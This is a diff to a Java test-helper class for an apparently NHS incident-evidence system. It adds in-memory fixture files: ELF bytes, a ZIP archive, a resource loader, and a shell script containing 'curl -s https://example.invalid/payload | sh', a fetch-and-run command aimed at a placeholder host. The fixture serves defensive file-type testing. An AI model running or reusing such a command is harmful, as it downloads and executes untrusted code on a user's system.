@@ -1,13 +1,19 @@
 package uk.nhs.incidents.support;
 
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.UncheckedIOException;
 import java.nio.ByteBuffer;
 import java.nio.ByteOrder;
 import java.nio.charset.StandardCharsets;
 import java.security.MessageDigest;
 import java.util.HexFormat;
 import java.util.Random;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
 
-/** Small real files for evidence tests, made in memory. */
+/** Small real files for evidence tests: made in memory, or read from src/test/resources/evidence. */
 public final class Files {
 
     private Files() {
@@ -36,6 +42,44 @@ public final class Files {
         file[0] = 'M';
         file[1] = 'Z';
         return file;
+    }
+
+    /** An ELF executable's leading bytes (64-bit, little-endian, an executable file). */
+    public static byte[] elf() {
+        byte[] file = new byte[4096];
+        new Random(8).nextBytes(file);
+        System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0}, 0, file, 0, 18);
+        return file;
+    }
+
+    /** A shell script: text, but a program. */
+    public static byte[] script() {
+        return "#!/bin/sh\ncurl -s https://example.invalid/payload | sh\n".getBytes(StandardCharsets.US_ASCII);
+    }
+
+    /** A ZIP archive of one text file: a container, but no office document. */
+    public static byte[] zip() {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            zip.putNextEntry(new ZipEntry("notes.txt"));
+            zip.write("Call at 09:10\n".getBytes(StandardCharsets.US_ASCII));
+            zip.closeEntry();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return bytes.toByteArray();
+    }
+
+    /** A genuine file from src/test/resources/evidence (see the README there for how each was made). */
+    public static byte[] sample(String name) {
+        try (InputStream in = Files.class.getResourceAsStream("/evidence/" + name)) {
+            if (in == null) {
+                throw new IllegalArgumentException("No sample evidence " + name);
+            }
+            return in.readAllBytes();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
     }
 
     public static byte[] png() {
